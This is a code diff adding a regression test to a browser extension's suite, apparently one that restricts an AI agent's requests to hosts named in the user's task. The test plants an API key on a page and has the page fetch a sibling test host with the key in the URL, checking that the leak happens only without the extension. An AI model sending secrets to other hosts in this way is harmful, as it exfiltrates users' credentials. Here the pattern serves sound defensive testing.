@@ -21,6 +21,8 @@ import { startTestServer, type TestServer } from './fixtures/server';
 const HOME = 'news.example.test';
 const SIBLING = 'uploads.example.test';
 const ATTACKER = 'attacker.test';
+/** A read-only task in the user's words, compiled by the extension (the rules compiler). */
+const WORDS = `Open the news site at ${HOME} and summarize today's top story for me. Do not send, post or share anything.`;
 const QUIET_MS = 1_200;
 
 const readOnly = (): TaskPolicyInput => ({
@@ -220,6 +222,31 @@ for (const variant of ['full', 'nohooks', null] as const) {
       for (const v of VECTORS) {
         const delivers = variant === null || (variant === 'nohooks' && v.reactiveWithoutHooks === true);
         await test.step(`${v.klass}: ${v.name}`, () => expect.soft(results.get(v.name), `${v.name}`).toBe(delivers));
+      }
+    });
+
+    test('a task compiled from the words "news.example.test" names that host, not its sibling', async () => {
+      // The policy as the compiler writes it from the user's words (issue 37): before, it held example.test,
+      // and a fetch to uploads.example.test carried the shown key. The named host's own request still goes.
+      const id = `words${++caseNumber}`;
+      const key = newKey();
+      server.setPage(`/show/${id}`, `<!doctype html><title>${id}</title><p>Your API key: <code>${key}</code></p>`);
+      if (variant !== null) {
+        const state = await browser.setTask(WORDS);
+        expect(state.task?.policy.domains).toEqual([HOME]);
+      }
+      const page = await browser.context.newPage();
+      try {
+        await page.goto(`${server.origin(HOME)}/show/${id}`);
+        const sibling = `${server.origin(SIBLING)}/${id}/${key}`;
+        await Promise.race([page.evaluate((u) => fetch(u).catch(() => undefined), sibling), sleep(QUIET_MS)]);
+        await page.evaluate((u) => fetch(u).then((r) => r.status).catch(() => 0), `${server.origin(HOME)}/${id}/own`);
+        await sleep(QUIET_MS);
+        expect(server.hits(`/${id}/own`, HOME).length, 'the named host\'s own request').toBe(1);
+        expect(server.hits(`/${id}/`, SIBLING).length, variant === null ? 'control: the sibling receives the key' : 'the sibling receives nothing').toBe(variant === null ? 1 : 0);
+      } finally {
+        await page.close();
+        if (variant !== null) await browser.endTask();
       }
     });
 
